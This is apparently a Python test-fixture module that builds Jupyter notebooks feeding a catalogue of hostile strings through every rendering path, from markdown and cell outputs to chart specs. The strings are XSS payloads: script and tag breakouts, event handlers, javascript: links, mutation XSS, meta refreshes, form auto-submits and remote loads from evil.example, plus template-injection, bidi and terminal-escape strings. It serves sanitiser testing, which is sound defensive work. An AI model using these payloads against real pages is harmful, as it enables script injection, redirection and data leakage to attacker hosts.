"""Hostile strings, and every way in which a string can reach a page.

`notebook()` puts each payload through each path. A payload that acts sets `window.MARK`
and the title of the page, or asks for something at evil.example.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
)

from analysis.figures.output import SAMESTORY, VEGALITE

MARK = "samestoryWasHere"
ACT = f"window.{MARK}=1;document.title='{MARK}'"
EVIL = "http://evil.example"

# These move the page away; no content policy stops them, only the sanitiser does.
REFRESHES = {
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/refresh">',
    "refresh in head": f'</title><meta http-equiv="Refresh" content="0; URL={EVIL}/head">',
}
PAYLOADS = {
    "script": f"<script>{ACT}</script>",
    "script breakout": f"</script><script>{ACT}</script>",
    "title breakout": f"</title><script>{ACT}</script>",
    "style breakout": f"</style><script>{ACT}</script>",
    "svg breakout": f"</title></text></svg><script>{ACT}</script>",
    "comment breakout": f"--><script>{ACT}</script><!--",
    "cdata breakout": f"]]><script>{ACT}</script><![CDATA[",
    "textarea breakout": f"</textarea></pre></code><script>{ACT}</script>",
    "attribute breakout": f'"><img src=x onerror="{ACT}">',
    "single quote breakout": f"'><img src=x onerror='{ACT.replace(chr(39), '`')}'>",
    "event attribute": f'" onmouseover="{ACT}" autofocus onfocus="{ACT}',
    "image error": f'<img src=x onerror="{ACT}">',
    "svg load": f'<svg onload="{ACT}"><a href="javascript:{ACT}">x</a></svg>',
    "details toggle": f'<details open ontoggle="{ACT}"><summary>x</summary></details>',
    "focus": f'<input autofocus onfocus="{ACT}"><button autofocus onfocus="{ACT}">x</button>',
    "frame": f'<iframe srcdoc="<script>parent.{MARK}=1</script>" src="{EVIL}/f"></iframe>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "remote image": f'<img src="{EVIL}/i.png" srcset="{EVIL}/s.png 2x">',
    "remote style": f'<link rel=stylesheet href="{EVIL}/a.css">'
    f'<style>@import "{EVIL}/b.css";</style>',
    "style background": f'<p style="background:url({EVIL}/c.png)">x</p>',
    "media": f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay></video><audio src="{EVIL}/a">',
    "base": f'<base href="{EVIL}/"><a href="x">x</a>',
    "form": f'<form action="{EVIL}/f"><input name=q value=1></form>'
    "<script>document.forms[0].submit()</script>",
    "anchor": f'<a href="javascript:{ACT}">x</a><a href=" JaVaScRiPt:{ACT}">y</a>',
    "markdown link": f"[x](javascript:{ACT}) [y](<JAVASCRIPT:{ACT}>) <javascript:{ACT}>",
    "markdown image": f'![x]({EVIL}/m.png) [![y]({EVIL}/n.png)]({EVIL}/)',
    "markdown data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown reference": f"[x][r]\n\n[r]: javascript:{ACT}",
    "mutation": "<math><mtext></table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>',
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "bidi": "pay \u202e\u2066gnidnats\u2069 \u200f\u061cend",
    "bidi entity": "pay &#x202e;&#8294;gnidnats&#x2069;",
    "terminal": f"\x1b[31mred\x1b[0m \x1b]8;;{EVIL}\x07link\x1b]8;;\x07 \x9b31m \x07\x00",
    "surrogate": "half \ud83d\udc68 \ud800 \ufffe \U000e0041",
    "lines": "one\u2028two\u2029three\r\nfour\rfive",
    "css": f"red;background:url({EVIL}/d.png) expression({ACT})",
}  # fmt: skip


def _markdown(form: str) -> Callable[[str], NotebookNode]:
    return lambda payload: new_markdown_cell(form.format(payload))


def _data(bundle: Callable[[str], Mapping[str, Any]]) -> Callable[[str], NotebookNode]:
    return lambda payload: new_code_cell(
        "", outputs=[new_output("display_data", data=dict(bundle(payload)))]
    )


def _typed(content: Callable[[str], Mapping[str, Any]]) -> Callable[[str], NotebookNode]:
    return _data(lambda payload: {SAMESTORY: dict(content(payload)), "text/html": payload})


def _chart(change: Callable[[dict[str, Any], str], None]) -> Callable[[str], NotebookNode]:
    def cell(payload: str) -> NotebookNode:
        spec: dict[str, Any] = {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
            "data": {"values": [{"name": "a", "value": 1}, {"name": "b", "value": 2}]},
            "mark": "bar",
            "encoding": {
                "x": {"field": "value", "type": "quantitative"},
                "y": {"field": "name", "type": "nominal"},
            },
            "usermeta": {"samestory": {"title": "t", "caption": "c", "alt": "a"}},
        }
        change(spec, payload)
        return new_code_cell("", outputs=[new_output("display_data", data={VEGALITE: spec})])

    return cell


def _meta(key: str) -> Callable[[str], NotebookNode]:
    def change(spec: dict[str, Any], payload: str) -> None:
        meta = spec["usermeta"]["samestory"]
        if key == "legend":
            meta["legend"] = [{"role": payload, "shape": payload, "label": payload}]
        elif key == "table":
            meta["table"] = {"columns": [payload], "rows": [[payload]], "more": 1}
        else:
            meta[key] = payload

    return _chart(change)


def _table(**change: Callable[[str], Any]) -> Callable[[str], NotebookNode]:
    def content(payload: str) -> dict[str, Any]:
        table: dict[str, Any] = {
            "kind": "table", "title": "t", "caption": "c",
            "columns": [{"label": "x", "kind": "text"}], "rows": [["a"]],
        }  # fmt: skip
        return table | {key: value(payload) for key, value in change.items()}

    return _typed(content)


def _evidence(payload: str) -> dict[str, Any]:
    line = {
        key: payload for key in ("id", "left", "node", "right", "document_id", "outlet", "date")
    }
    number = {"anchor": payload, "label": payload, "total": 3, "lines": [payload]}
    return {
        "kind": "evidence", "title": payload, "numbers": [number], "lines": [line | {"start": 1}],
    }  # fmt: skip


def _at(*path: str | int) -> Callable[[str], NotebookNode]:
    """Put the payload somewhere into the spec."""

    def change(spec: dict[str, Any], payload: str) -> None:
        place: Any = spec
        for step in path[:-1]:
            place = place.setdefault(step, {}) if isinstance(place, dict) else place[step]
        place[path[-1]] = payload

    return _chart(change)


def _value(spec: dict[str, Any], payload: str) -> None:
    spec["data"]["values"][0]["name"] = payload


def _link(spec: dict[str, Any], payload: str) -> None:
    spec["encoding"]["href"] = {"value": payload}
    spec["encoding"]["url"] = {"value": f"{EVIL}/u"}


def _tooltip(spec: dict[str, Any], payload: str) -> None:
    spec["data"]["values"][0]["image"] = payload
    spec["encoding"]["tooltip"] = [{"field": "image", "type": "nominal"}]
    spec["encoding"]["description"] = {"field": "image", "type": "nominal"}


def _remote(spec: dict[str, Any], payload: str) -> None:
    spec["data"] = {"url": f"{EVIL}/{payload}"}


def _picture(spec: dict[str, Any], payload: str) -> None:
    spec["mark"] = {"type": "image", "url": payload}


def _colour(spec: dict[str, Any], payload: str) -> None:
    spec["mark"] = {"type": "bar", "color": payload, "stroke": f"url({EVIL}/s)"}


PATHS: dict[str, Callable[[str], NotebookNode]] = {
    "markdown paragraph": _markdown("{}"),
    "markdown heading": _markdown("## {}"),
    "markdown table": _markdown("| a |\n|---|\n| {} |"),
    "markdown code": _markdown("```html\n{}\n```"),
    "markdown link text": _markdown("[{}](https://example.org)"),
    "source": lambda payload: new_code_cell(payload),
    "stdout": lambda p: new_code_cell("", outputs=[new_output("stream", name="stdout", text=p)]),
    "stderr": lambda p: new_code_cell("", outputs=[new_output("stream", name="stderr", text=p)]),
    "error": lambda p: new_code_cell(
        "", outputs=[new_output("error", ename=p, evalue=p, traceback=[p])]
    ),
    "plain": _data(lambda p: {"text/plain": p}),
    "html": _data(lambda p: {"text/html": p, "text/plain": p}),
    "html table": _data(lambda p: {"text/html": f"<table><tr><td>{p}</td></tr></table>"}),
    "markdown output": _data(lambda p: {"text/markdown": f"## {p}\n\n{p}"}),
    "latex": _data(lambda p: {"text/latex": p}),
    "svg": _data(lambda p: {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{p}</svg>"}),
    "javascript": _data(lambda p: {"application/javascript": ACT, "text/plain": p}),
    "png": _data(lambda p: {"image/png": p}),
    "json": _data(lambda p: {"application/json": {"x": p}}),
    "widget": _data(lambda p: {"application/vnd.jupyter.widget-view+json": {"model_id": p}}),
    "unknown kind": _typed(lambda p: {"kind": p, "text": p}),
    "malformed": _typed(lambda p: {"kind": "table", "title": p}),
    "finding": _typed(lambda p: {"kind": "finding", "sentences": [p]}),
    "banner": _typed(lambda p: {"kind": "banner", "text": p, "tone": p}),
    "headline": _typed(
        lambda p: {
            "kind": "headline",
            "kicker": p,
            "headline": p,
            "guard": p,
            "facts": p,
            "sentences": [{"text": p, "link": p}],
        }
    ),
    "headlines": _typed(
        lambda p: {"kind": "headlines", "items": [{"who": p, "when": p, "title": p}]}
    ),
    "matrix": _typed(
        lambda p: {
            "kind": "matrix",
            "title": p,
            "caption": p,
            "columns": [p],
            "highlight": 0,
            "legend": [{"voice": "own", "label": p}],
            "rows": [
                {
                    "label": p,
                    "cells": [{"marks": [{"voice": "own", "link": p}], "count": 1, "note": p}],
                }
            ],
        }
    ),
    "bars": _typed(
        lambda p: {
            "kind": "bars",
            "title": p,
            "caption": p,
            "rows": [{"label": p, "parts": [{"name": p, "share": 1, "role": p}]}],
        }
    ),
    "provenance": _typed(lambda p: {"kind": "provenance", "facts": [[p, p]], "groups": {p: 1}}),
    "elsewhere": _typed(
        lambda p: {"kind": "elsewhere", "links": [{"notebook": p, "heading": p, "text": p}]}
    ),
    "table title": _table(title=lambda p: p, caption=lambda p: p),
    "table column": _table(columns=lambda p: [{"label": p, "kind": p}]),
    "table cell": _table(rows=lambda p: [[p]]),
    "table link": _table(rows=lambda p: [[{"text": p, "note": p, "link": p}]]),
    "evidence": _typed(_evidence),
    "chart title": _meta("title"),
    "chart caption": _meta("caption"),
    "chart legend": _meta("legend"),
    "chart numbers": _meta("table"),
    "chart alternative": _at("description"),
    "axis title": _at("encoding", "x", "title"),
    "panel title": _at("title"),
    "chart value": _chart(_value),
    "chart tooltip": _chart(_tooltip),
    "chart link": _chart(_link),
    "chart data url": _chart(_remote),
    "chart image mark": _chart(_picture),
    "chart colour": _chart(_colour),
}


def notebook(payloads: Iterable[str], paths: Iterable[str] = tuple(PATHS)) -> NotebookNode:
    """Make an executed notebook that puts every payload through every path."""
    chosen = list(payloads)
    cells = [new_markdown_cell(f"# Attack {chosen[0] if chosen else ''}\n\n{' '.join(chosen)}")]
    cells += [PATHS[path](payload) for payload in chosen for path in paths]
    return new_notebook(cells=cells, metadata={"title": " ".join(chosen)})
